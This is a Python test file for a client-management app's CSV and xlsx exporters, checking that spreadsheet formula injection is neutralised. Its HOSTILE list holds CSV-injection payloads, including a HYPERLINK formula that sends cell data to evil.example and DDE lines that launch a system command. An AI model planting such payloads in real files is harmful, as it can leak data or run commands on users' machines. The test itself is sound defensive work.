"""Every file we write is safe to open: no CSV cell starts a formula (OWASP CSV injection), and
the xlsx writer keeps such names as text cells."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from clientdesk import cli
from clientdesk.clock import FixedClock
from clientdesk.desk import Desk
from clientdesk.exporting import csvsafe
from clientdesk.exporting.xlsx import Column, write_xlsx
from clientdesk.greetings import whatsapp
from clientdesk.clients.fields import ClientData, ConsentState, PhoneEntry

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
    "@",
    "+91-98765-43210",
    "-1+1",
    "=रमेश",
]
PLAIN = ["+919876543210", "-250.50", "250", "Ramesh Kumar", "रमेश कुमार", "", " =not at the start", "a=b", "1-2"]


def starts_formula(cell: str) -> bool:
    """What a spreadsheet would run: a trigger first, unless the whole cell is a plain number."""
    return cell.startswith(csvsafe.FORMULA_STARTS) and not csvsafe._PLAIN_NUMBER.match(cell)


def read_file(path) -> str:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return handle.read()


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def write(rows) -> str:
    buffer = io.StringIO(newline="")
    csvsafe.writer(buffer).writerows(rows)
    return buffer.getvalue()


def test_hostile_cells_get_an_apostrophe_plain_numbers_and_phones_stay():
    rows = read_back(write([[v] for v in HOSTILE + PLAIN]))
    cells = [r[0] if r else "" for r in rows]
    assert cells[:len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert cells[len(HOSTILE):] == PLAIN
    assert csvsafe.safe_cell(None) == "" and csvsafe.safe_cell(-5) == -5 and csvsafe.safe_cell(2.5) == 2.5


def test_whatsapp_csv_neutralises_names(tmp_path):
    path = tmp_path / "wa.csv"
    rows = [(i + 1, name, "+919876543210", whatsapp.link("+919876543210", f"Happy Diwali {name}"))
            for i, name in enumerate(HOSTILE)]
    assert whatsapp.write_csv(path, rows) == len(HOSTILE)
    back = read_back(read_file(path))
    assert back[0] == ["id", "name", "phone", "link"]
    assert [r[1] for r in back[1:]] == ["'" + name for name in HOSTILE]
    assert {r[2] for r in back[1:]} == {"+919876543210"}  # the phone stays a phone
    assert all(r[3].startswith("https://wa.me/919876543210?text=") for r in back[1:])
    assert not any(starts_formula(cell) for row in back for cell in row)


def test_greet_command_whatsapp_csv_with_a_hostile_name(tmp_path, capsys):
    """End to end: the CSV the `greet --channel whatsapp` command writes."""
    today = dt.date.today()
    path = tmp_path / "cli.sqlite"
    desk = Desk.open(path, clock=FixedClock(today))
    desk.settings.set("shop_name", "@Sharma Store")
    for n, name in enumerate(HOSTILE[:4]):
        desk.clients.create(ClientData(name=name, phones=[PhoneEntry(f"+91981110{n:04d}", True, True)],
                                       birth_day=today.day, birth_month=today.month,
                                       consents={"whatsapp": ConsentState(True)}))
    desk.close()
    out = tmp_path / "wa.csv"
    try:
        code = cli.run_command(cli.build_parser().parse_args(
            ["--db", str(path), "greet", "--occasion", "birthday", "--channel", "whatsapp", "--out", str(out),
             "--json"]))
    except SystemExit as exc:
        code = exc.code
    printed = capsys.readouterr()
    assert code == 0, printed.err
    assert len(json.loads(printed.out)["greeted"]) == 4, printed.out
    back = read_back(read_file(out))
    assert sorted(r[1] for r in back[1:]) == sorted("'" + n for n in HOSTILE[:4])
    assert not any(starts_formula(cell) for row in back for cell in row)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(), st.sampled_from(HOSTILE + PLAIN), st.integers(), st.none()),
                         min_size=1, max_size=6), min_size=1, max_size=8))
def test_property_no_csv_cell_starts_a_formula(rows):
    back = read_back(write(rows))
    assert len(back) == len(rows)
    for written, original in zip(back, rows):
        for cell, value in zip(written, original):
            assert not starts_formula(cell)
            expected = "" if value is None else str(value)
            assert cell in (expected, "'" + expected)  # nothing else changes


def test_xlsx_keeps_hostile_names_as_text_cells(tmp_path):
    path = tmp_path / "names.xlsx"
    write_xlsx(path, "Clients", [Column("Name", "text"), Column("Value", "value")],
               [[name, name] for name in HOSTILE])
    sheet = openpyxl.load_workbook(path).active
    for row, name in enumerate(HOSTILE, start=2):
        for col in (1, 2):
            cell = sheet.cell(row, col)
            assert cell.data_type == "s", (name, cell.data_type)
            # a carriage return is stored as Excel writes it, _x000D_ (Excel reads it back as CR; openpyxl
            # leaves the escape as it is)
            assert cell.value == name.replace("\r", "_x000D_"), name


def test_client_export_keeps_hostile_names_as_text(desk, tmp_path):
    for n, name in enumerate(HOSTILE[:5]):
        desk.clients.create(ClientData(name=name, phones=[PhoneEntry(f"+91981120{n:04d}", True)],
                                       notes=HOSTILE[-n - 1], postal_city="@Pune"))
    path = tmp_path / "clients.xlsx"
    desk.exports.export_clients(path)
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    names = [row[header.index("Name")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in names) == sorted(HOSTILE[:5])
    assert all(c.data_type == "s" for c in names)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
